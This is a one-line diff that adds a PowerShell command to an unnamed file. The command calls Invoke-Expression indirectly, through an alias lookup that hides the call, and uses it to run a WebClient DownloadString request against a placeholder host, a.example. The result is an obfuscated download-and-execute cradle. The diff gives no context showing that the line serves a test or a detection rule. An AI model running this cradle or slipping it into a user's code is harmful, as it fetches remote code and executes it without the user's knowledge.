@@ -1,0 +1,1 @@
+&(Get-Alias -Definition Invoke-Expression) '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
